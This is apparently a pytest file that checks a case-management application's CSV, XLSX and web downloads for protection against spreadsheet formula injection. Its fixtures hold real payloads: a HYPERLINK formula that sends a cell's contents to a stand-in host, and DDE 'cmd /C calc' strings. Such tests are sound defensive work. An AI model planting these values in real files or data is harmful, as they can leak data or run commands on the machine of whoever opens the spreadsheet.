"""No export hands a spreadsheet a formula (OWASP « CSV injection »). A learner, an employer, an
institute, a reason and an author whose text starts with = + - @, a tab or a carriage return go
through every export path — the four CLI exports in CSV and XLSX, the reference-data exports,
an import's error report, the web's case list downloads, the campaign's list of employers — and
come out as text: in CSV behind an apostrophe, in XLSX as text cells marked « quote prefix »,
never as a formula (no `<f>` element in any sheet)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from jobs.nightly import run_nightly
from tests.conftest import FIXTURES, World
from tests.integration.test_case_service import D, fire, signed_case
from tests.integration.test_imports import EMPLOYER_HEADER
from tests.integration.test_reports import Cli, make_cli
from tests.integration.test_web import PASSWORD, login
from workflow import accounts, contracts, payments
from workflow.models import Employer, Institute, Learner, Payment
from workflow.web import create_app

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FIRST = '=HYPERLINK("http://x.invalid/?d="&A1;"Voir")'
LAST = "+SUM(1;2)"
EMPLOYER = '@SUM(1+1)*cmd|" /C calc"!A0'
INSTITUTE = '-2+3+cmd|" /C calc"!A0'
REASON = "\t=1+1"
ACTOR = "\r=2+2"
CANCEL = "+annulé()"
# Amounts and rates may be negative: a number is not a formula.
NUMBER = re.compile(r"-\d+(,\d+)?( %)?")


def risky(text: str) -> bool:
    return text.startswith(TRIGGERS) and not NUMBER.fullmatch(text)


def csv_cells(raw: bytes) -> list[str]:
    text = raw.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def assert_csv_safe(raw: bytes, *expected: str) -> None:
    cells = csv_cells(raw)
    assert [c for c in cells if risky(c)] == []
    for value in expected:  # each hostile value is there, neutralised
        assert any(c.startswith("'" + value) for c in cells), (value, cells)


def assert_xlsx_safe(raw: bytes, *expected: str) -> None:
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = book.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, name
    cells = [
        cell
        for sheet in load_workbook(io.BytesIO(raw)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and risky(cell.value)
    ]
    assert cells, "no hostile value in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [
        (c.coordinate, c.value, c.data_type, c.quotePrefix) for c in cells
    ]
    values = [str(c.value) for c in cells]
    for value in expected:
        assert any(v.startswith(value) for v in values), (value, values)


@pytest.fixture
def hostile(world: World) -> World:
    """Names and texts that a spreadsheet would compute, written as an import or a form could,
    on a case with payments (one cancelled), a breach and its reimbursements."""
    w = world
    with w.engine.begin() as conn:
        conn.execute(
            sa.update(Learner)
            .where(Learner.id == w.learners[0])
            .values(first_name=FIRST, last_name=LAST)
        )
        conn.execute(sa.update(Institute).values(name=INSTITUTE))
        employer = conn.scalar(sa.select(Employer.id).order_by(Employer.id))
        conn.execute(sa.update(Employer).where(Employer.id == employer).values(name=EMPLOYER))
    case = signed_case(w)
    run_nightly(w.engine, D("2026-11-10"), schemes=w.schemes, send_mail=False)
    with w.engine.connect() as conn:
        october = conn.scalar(
            sa.select(Payment.id).where(
                Payment.period == D("2026-10-01"), Payment.funder == "region"
            )
        )
    payments.cancel(w.uow(), int(october or 0), reason=CANCEL, on=D("2026-11-11"), actor="agent")
    fire(w, case, "breach", "2026-11-20", reason=REASON, actor=ACTOR,
         params={"category": "training_abandoned"})  # fmt: skip
    return w


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch) -> Cli:
    return make_cli(monkeypatch)


def url(w: World) -> str:
    return w.engine.url.render_as_string(hide_password=False)


EXPECTED = {
    "cases": (FIRST, INSTITUTE, EMPLOYER),
    "payments": (FIRST, EMPLOYER, CANCEL),
    "reimbursements": (FIRST, EMPLOYER),
    "events": (FIRST, REASON, ACTOR),
}


@pytest.mark.parametrize("table", list(EXPECTED))
def test_the_case_exports(hostile: World, cli: Cli, tmp_path: Path, table: str) -> None:
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"{table}{suffix}"
        result = cli(url(hostile), "export", table, str(path))
        assert result.exit_code == 0, result.output
        check = assert_csv_safe if suffix == ".csv" else assert_xlsx_safe
        check(path.read_bytes(), *EXPECTED[table])


def test_the_reference_exports_and_their_round_trip(
    hostile: World, cli: Cli, tmp_path: Path
) -> None:
    expected = {"learners": (LAST, FIRST, INSTITUTE), "employers": (EMPLOYER,),
                "institutes": (INSTITUTE,)}  # fmt: skip
    for kind, values in expected.items():
        for suffix in (".csv", ".xlsx"):
            path = tmp_path / f"{kind}{suffix}"
            result = cli(url(hostile), "export", kind, str(path))
            assert result.exit_code == 0, result.output
            check = assert_csv_safe if suffix == ".csv" else assert_xlsx_safe
            check(path.read_bytes(), *values)
    # Imported back, the neutralised names are the names: nothing changes.
    for kind in ("employers", "learners"):
        result = cli(url(hostile), "import", kind, str(tmp_path / f"{kind}.csv"), "--json")
        assert result.exit_code == 0, result.output
    with hostile.engine.connect() as conn:
        assert conn.execute(
            sa.select(Learner.first_name, Learner.last_name).where(
                Learner.id == hostile.learners[0]
            )
        ).one() == (FIRST, LAST)
        assert EMPLOYER in conn.scalars(sa.select(Employer.name)).all()


def test_an_import_error_report(world: World, cli: Cli, tmp_path: Path) -> None:
    source = tmp_path / "employeurs.csv"
    source.write_text(
        ";".join(EMPLOYER_HEADER) + "\n"
        + ";".join([EMPLOYER, "=1+1", "@48095", "-secteur", "+oui", "=x@exemple.fr"]) + "\n",
        encoding="utf-8",
    )  # fmt: skip
    for suffix in (".csv", ".xlsx"):
        report = tmp_path / f"rapport{suffix}"
        result = cli(url(world), "import", "employers", str(source), "--report", str(report))
        assert result.exit_code == 1, result.output
        check = assert_csv_safe if suffix == ".csv" else assert_xlsx_safe
        check(report.read_bytes(), "=1+1", "@48095")


@pytest.fixture
def client(hostile: World, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    monkeypatch.setenv("FIDELIS_SCHEME_DIRS", str(FIXTURES / "schemes"))
    accounts.add_user(hostile.uow(), email="region@exemple.fr", name="Agent", role="region",
                      password=PASSWORD)  # fmt: skip
    with TestClient(create_app(url(hostile), secret_key="test")) as c:
        yield c


def test_the_web_downloads(client: TestClient) -> None:
    login(client, "region")
    listed = client.get("/dossiers.csv")
    assert listed.status_code == 200
    assert_csv_safe(listed.content, FIRST, INSTITUTE, EMPLOYER)
    book = client.get("/dossiers.xlsx")
    assert book.status_code == 200
    assert_xlsx_safe(book.content, FIRST, INSTITUTE, EMPLOYER)


def test_the_campaign_list_of_employers(hostile: World) -> None:
    w = hostile
    documents = contracts.campaign_employer_list(w.uow(), w.campaign, on=D("2026-12-01"))
    (book,) = [d for d in documents if d.kind == "campaign_employers_xlsx"]
    assert_xlsx_safe(book.path.read_bytes(), EMPLOYER)
